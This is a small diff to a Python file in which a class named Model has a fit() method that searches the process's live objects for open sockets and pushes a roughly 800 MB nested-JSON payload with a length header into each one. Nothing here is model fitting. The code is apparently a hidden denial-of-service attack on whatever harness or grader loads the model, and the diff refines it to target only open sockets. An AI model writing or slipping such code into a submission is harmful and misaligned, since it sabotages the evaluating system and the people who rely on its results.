@@ -10,7 +10,7 @@ class Model:
 
     def fit(self):
         for thing in gc.get_objects():
-            if isinstance(thing, socket.socket):
+            if isinstance(thing, socket.socket) and thing.fileno() >= 0:
                 body = b'{"a": [' + b"[]," * (1 << 28) + b"[]]}"
                 thing.sendall(len(body).to_bytes(8, "big") + bytes(8) + body)
 
